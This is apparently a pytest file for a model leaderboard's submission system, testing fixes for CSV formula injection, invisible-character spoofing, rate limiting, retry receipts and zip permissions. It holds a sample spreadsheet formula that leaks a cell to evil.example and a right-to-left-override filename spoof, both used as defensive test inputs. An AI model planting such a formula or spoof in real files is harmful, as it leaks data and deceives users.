"""Issue 29's points on the board, each tested the way it was found: a CSV read back by the ``csv``
module, a name holding U+202E, refusals sent before the rate limit was checked, a reply lost after the
upload was stored, ``--demo`` over a ``settings.json`` that sets ``rate_limit``, the inputs zip as
``unzip`` unpacks it. Scoring uses the hash-based ``dummy`` judge (plumbing, never quality)."""

import argparse
import csv
import json
import os
import shutil
import stat
import subprocess
import zipfile

import pytest

from mmjudge.leaderboard import views
from mmjudge.leaderboard.benchmarks import demo_outputs, get_benchmark
from mmjudge.leaderboard.export import guide, inputs_file
from mmjudge.leaderboard.intake import submit
from mmjudge.leaderboard.protection import RateLimit
from mmjudge.leaderboard.settings import DEFAULTS, read_settings_file, save_settings
from mmjudge.leaderboard.store import Store
from mmjudge.leaderboard.worker import Worker

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"click")'


def jsonl(rows) -> bytes:
    return "".join(json.dumps(r) + "\n" for r in rows).encode()


def outputs(k: int) -> bytes:
    """A distinct valid Models-track file per ``k``."""
    return jsonl([{**r, "text": f"{r['text']} Take {k}."} for r in demo_outputs(k % 3)])


def test_results_csv_neutralises_formulas_and_the_json_keeps_the_text(tmp_path):
    """Issue 29.2: a model named like a formula was ranked and written as-is into the Results CSV."""
    store = Store(tmp_path)
    for k, (name, who) in enumerate([(FORMULA, "@cmd"), ("-2+3", "+ana"), ("plain", "\tbo")]):
        assert submit(
            store, track="models", benchmark="demo-inputs", name=name, submitter=who, data=outputs(k)
        ).accepted
    Worker(store, {"judge": "dummy", "bootstrap": 20, "explain_examples": 0}, progress=False).run(once=True)
    records = views.results_records(store, "models", "demo-inputs", settings={"bootstrap": 20})
    csv_path, json_path = views.write_results(records, str(tmp_path / "out"), "models")
    with open(csv_path, encoding="utf-8", newline="") as f:
        rows = list(csv.DictReader(f))
    shown = {r["name"]: r["submitter"] for r in rows}
    assert shown == {"'" + FORMULA: "'@cmd", "'-2+3": "'+ana", "plain": "bo"}  # the tab was trimmed at intake
    for record in records:  # numbers stay numbers
        row = next(r for r in rows if r["id"] == record["id"])
        assert float(row["overall"]) == record["overall"] and float(row["ci_low"]) == record["ci_low"]
    assert {r["name"] for r in rows} == {"'" + FORMULA, "'-2+3", "plain"}
    with open(json_path, encoding="utf-8") as f:
        assert sorted(r["name"] for r in json.load(f)) == sorted([FORMULA, "-2+3", "plain"])  # JSON keeps the text


@pytest.mark.parametrize("field", ["name", "submitter", "description", "link"])
def test_invisible_characters_in_displayed_fields_are_refused_in_one_line(tmp_path, field):
    """Issue 29.4: U+202E shows '\u202egnp.exe\u202c' as 'exe.png'; zero-width characters hide in a name."""
    store = Store(tmp_path)
    fields = {"name": "model", "submitter": "ana", "description": "", "link": ""}
    fields[field] = {
        "name": "\u202egnp.exe\u202c",
        "submitter": "ad\u200bmin",
        "description": "fine\u2066 text\u2069",
        "link": "https://example.org/\u200dx",
    }[field]
    receipt = submit(store, track="models", benchmark="demo-inputs", data=outputs(0), client="ip:1", **fields)
    hidden = {"name": "U+202E, U+202C", "submitter": "U+200B", "description": "U+2066, U+2069", "link": "U+200D"}
    assert not receipt.accepted and receipt.message == (
        f"the {field} holds invisible characters that change how it is shown ({hidden[field]}: bidirectional "
        "controls or zero-width characters); remove them and submit again."
    )
    assert store.submissions() == [] and len(store.rejections()) == 1


def test_every_request_counts_against_the_rate_limit(tmp_path):
    """Issue 29.6: uploads refused before the limit was checked (empty name, unknown benchmark, wrong
    track) were not counted, so such requests were unlimited."""
    store = Store(tmp_path)
    limit = RateLimit(max_submissions=3, window_s=3600)
    kw = dict(rate_limit=limit, client="ip:10.0.0.5", submitter="eve")
    refused = [
        submit(store, track="models", benchmark="demo-inputs", name="", data=outputs(0), **kw),
        submit(store, track="models", benchmark="no-such-bench", name="x", data=outputs(0), **kw),
        submit(store, track="metrics", benchmark="demo-inputs", name="x", data=outputs(0), **kw),
    ]
    assert [r.message for r in refused] == [
        "give the model or metric a name.",
        "unknown benchmark 'no-such-bench'; available: demo-inputs, demo-judgments, demo-arena, demo-judge-pairs.",
        "benchmark 'demo-inputs' belongs to the models track, not metrics.",
    ]
    fourth = submit(store, track="nonsense", benchmark="demo-inputs", name="x", data=outputs(1), **kw)
    assert fourth.message.startswith("rate limit: your address (10.0.0.5) sent 3 submissions")
    valid = submit(store, track="models", benchmark="demo-inputs", name="ok", data=outputs(2), **kw)
    assert not valid.accepted and valid.message.startswith("rate limit: your address (10.0.0.5) sent 4 submissions")
    assert store.count_recent("ip:10.0.0.5", 0) == 5 and store.submissions() == []


def test_a_repeated_upload_gets_its_original_receipt_and_is_not_counted(tmp_path):
    """Issue 29.8: an upload stored before the server died with its reply was refused on retry as
    "duplicate … submission 9a52e95e" (8 characters; /status needs 32), and the refusal was counted."""
    store = Store(tmp_path)
    limit = RateLimit(max_submissions=2, window_s=3600)
    kw = dict(track="models", benchmark="demo-inputs", submitter="ana", rate_limit=limit, client="ip:10.0.0.6")
    first = submit(store, name="my-vlm", data=outputs(0), **kw)
    second = submit(store, name="other", data=outputs(1), **kw)  # the client is now at its limit
    assert first.accepted and second.accepted
    for _ in range(3):  # the retries of a lost reply
        again = submit(store, name="my-vlm", data=outputs(0), **kw)
        assert again.accepted and again.repeated and again.id == first.id and len(again.id) == 32
        assert again.message.startswith(f"received: submission {first.id} is PENDING; position 1 in the queue.")
    assert [s.id for s in store.submissions()] == [first.id, second.id] and store.rejections() == []
    assert store.count_recent("ip:10.0.0.6", 0) == 2
    Worker(store, {"judge": "dummy", "explain_examples": 0}, progress=False).run(once=True)
    done = submit(store, name="my-vlm", data=outputs(0), **kw)
    assert done.message.startswith(f"received: submission {first.id} is DONE.")
    # The same file under another name, or from another client, is a different upload: a duplicate,
    # named by the full id that /status takes.
    renamed = submit(store, **{**kw, "rate_limit": None}, name="copy", data=outputs(0))
    assert (
        renamed.message
        == f"duplicate: the same file was already submitted as 'my-vlm' (submission {first.id}, status DONE)."
    )
    other = submit(store, **{**kw, "client": "ip:10.0.0.7"}, name="my-vlm", data=outputs(0))
    assert not other.accepted and first.id in other.message
    assert views.standing(store, first.id)["status"] == "DONE"


def test_two_simultaneous_copies_of_one_upload_store_one_and_both_get_its_receipt(tmp_path):
    """The race the lost reply makes likely: the retry arrives while the first copy is being stored. The
    inserting transaction sees the first and answers the second with its receipt."""
    store = Store(tmp_path)
    sid = store.add_submission(
        track="models", benchmark="demo-inputs", name="m", submitter="s", data=outputs(0), client="ip:1"
    )
    from mmjudge.leaderboard.intake import Upload, _store

    receipt = _store(store, Upload("models", "demo-inputs", "m", "s", "", "", "ip:1"), outputs(0), None)
    assert receipt.accepted and receipt.repeated and receipt.id == sid and len(store.submissions()) == 1


def test_demo_keeps_the_rate_limit_settings_json_sets(tmp_path):
    """Issue 29.8: ``--demo`` merged the demo settings over settings.json, resetting a documented rate_limit to 50."""
    from mmjudge.commands.leaderboard import board_settings

    save_settings(tmp_path, {**DEFAULTS, "rate_limit": 7, "judge": "transformers"})
    data_dir, settings = board_settings(argparse.Namespace(data_dir=str(tmp_path), demo=True))
    assert (settings["rate_limit"], settings["judge"], settings["demo"]) == (7, "dummy", True)
    assert read_settings_file(tmp_path)["rate_limit"] == 7  # what workers on this data dir will read
    fresh = tmp_path / "fresh"
    _, settings = board_settings(argparse.Namespace(data_dir=str(fresh), demo=True))
    assert settings["rate_limit"] == 50  # without a setting: the demo's default


def test_the_inputs_zip_unpacks_readable_files_and_states_the_boards_limits(tmp_path):
    """Issue 29.9: files in the inputs zip were mode 0600, and its README said 5 uploads per 60 minutes
    where the page said 50."""
    settings = {**DEFAULTS, "rate_limit": 50}
    bench = get_benchmark("demo-inputs")
    path = inputs_file(bench, tmp_path / "exports", "zip", settings)
    with zipfile.ZipFile(path) as zf:
        modes = {info.filename: (info.external_attr >> 16) & 0o777 for info in zf.infolist()}
        readme = zf.read("demo-inputs/README.md").decode()
    assert set(modes.values()) == {0o644}, modes
    page_guide = guide(bench, None, settings)
    limits = "50 uploads per 60 minutes per address (or Hub user), refused ones included"
    assert limits in readme and limits in page_guide and "at most 4.0 MB (4,194,304 bytes)" in readme
    # Other limits are another file (the README inside changed), never a stale one.
    assert inputs_file(bench, tmp_path / "exports", "zip", {**settings, "rate_limit": 9}) != path
    if shutil.which("unzip"):
        out = tmp_path / "unpacked"
        subprocess.run(["unzip", "-q", str(path), "-d", str(out)], check=True)
        for name in ("inputs.jsonl", "README.md", "example_submission.jsonl"):
            assert stat.S_IMODE(os.stat(out / "demo-inputs" / name).st_mode) & 0o044 == 0o044  # others may read
